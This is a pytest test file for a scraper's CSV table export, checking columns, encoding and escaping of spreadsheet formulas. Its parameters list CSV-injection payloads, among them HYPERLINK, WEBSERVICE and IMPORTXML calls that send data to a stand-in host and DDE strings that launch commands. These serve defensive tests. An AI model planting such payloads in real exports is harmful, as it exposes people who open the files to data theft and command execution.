"""Records leave as a table that spreadsheets open."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from schemas.errors import StoreError
from schemas.record import Article, Author, Record, Thread
from scraper.export.base import export
from scraper.export.table import COLUMNS, table
from tests.store.examples import NOON, article, post, thread_page

STORY = article("flood", text='It rose, "by a hand".\n\nAnd fell.')[1].record
COMPOST = thread_page(1, [post(1), post(2, "Nobody knows.")])[1].record


def read(*records: Record) -> list[dict[str, str]]:
    """The rows, by the names of their columns."""
    stream = io.BytesIO()
    assert table(records, stream) == len(records)
    return list(csv.DictReader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))


def test_a_record_that_cannot_be_had_leaves_the_stream_open():
    """It may be stdout, which is flushed once more when all is over: that was a traceback behind the message."""

    def damaged() -> Iterator[Record]:
        yield STORY
        raise StoreError("store_damaged", "thresher.db")

    stream = io.BytesIO()
    with pytest.raises(StoreError):
        table(damaged(), stream)
    assert not stream.closed


def test_an_article_is_a_row_and_each_comment_and_post_one():
    """With what all of them share, and the text as the record has it."""
    assert isinstance(STORY, Article)
    story = STORY.model_copy(update={"comments": (post(7),), "authors": (Author(name="Ida"), Author(name="Jan")), "published_at": NOON})
    first, comment, *posts = read(story, COMPOST)
    assert (first["record"], first["kind"], first["site"], first["title"]) == (story.id, "article", "news.example", "flood")
    assert (first["author"], first["published_at"], first["text"]) == ("Ida; Jan", "2026-03-01T12:00:00Z", story.text)
    assert (comment["record"], comment["post"], comment["title"]) == (story.id, "3007", "flood")
    assert [(row["post"], row["position"], row["author"], row["status"], row["text"]) for row in posts][1] == (
        "3002",
        "2",
        "gardener 2",
        "present",
        "Nobody knows.",
    )


def test_no_records_are_a_head_alone(tmp_path: Path):
    """In UTF-8 with its mark, and the line ends of RFC 4180."""
    assert export([], tmp_path / "none.csv", table) == 0
    assert (tmp_path / "none.csv").read_bytes() == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n"


@pytest.mark.parametrize("text", ["=1+1", "+49 30 1234", "- a list", "@Kees no", "\tquoted", "\rquoted", "\n=1+1", "＝1+1", "＠Kees"])
def test_no_cell_is_a_formula(text: str):
    """Anybody may write one, and a spreadsheet would reckon it."""
    assert isinstance(COMPOST, Thread)
    (row,) = read(COMPOST.model_copy(update={"posts": (post(1, text),)}))
    assert row["text"] == f"'{text}"


def test_what_looks_harmless_is_left_as_it_is():
    """Signs within a text, and a number."""
    assert isinstance(COMPOST, Thread)
    (row,) = read(COMPOST.model_copy(update={"posts": (post(1, "1 + 1 = 2, - he said @noon"),)}))
    assert (row["text"], row["position"]) == ("1 + 1 = 2, - he said @noon", "1")


BLANKS = ('=HYPERLINK ("http://grim.example/")', "=1+SUM\u00a0 (A1)", '-Webservice ("http://grim.example/")', '+2+IMPORTXML ("http://grim.example/")')
"""As some take it, a blank may stand before the bracket."""


@pytest.mark.parametrize(
    "call", ['=HYPERLINK("http://grim.example/?"&A1)', "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "＝SUM(1)", *BLANKS]
)
@pytest.mark.parametrize(("before", "between"), [(";", ""), (";", " "), (";", '"'), ("\n", ""), ("\r\n", ""), ("\t", ""), ("yes;no;", "")])
def test_no_part_of_a_cell_calls_anything_where_semicolons_part_cells(before: str, between: str, call: str):
    """As in a German Excel, to which the commas of the table are letters, and its quotation marks, too."""
    assert isinstance(COMPOST, Thread)
    (row,) = read(COMPOST.model_copy(update={"posts": (post(1, f"Look{before}{call};-)"),)}))
    assert row["text"] == f"Look{before.rstrip(' ' + chr(34))}'{before[len(before.rstrip(' ' + chr(34))) :]}{call};-)"


@pytest.mark.parametrize(
    "text",
    [
        "Fine ;-)",
        "yes;=no",
        "A list:\n- one (of two)\n- two;\n+1 (or so)\n- image: two (of them)",
        "Hello\n@Kees (and Jan)",
        "f(x)=1; x = g(y)",
        "So:\n=> so (they say)",
    ],
)
def test_smileys_and_lists_are_left_as_they_are(text: str):
    """What calls nothing is no more than an error to a spreadsheet."""
    assert isinstance(COMPOST, Thread)
    (row,) = read(COMPOST.model_copy(update={"posts": (post(1, text),)}))
    assert row["text"] == text
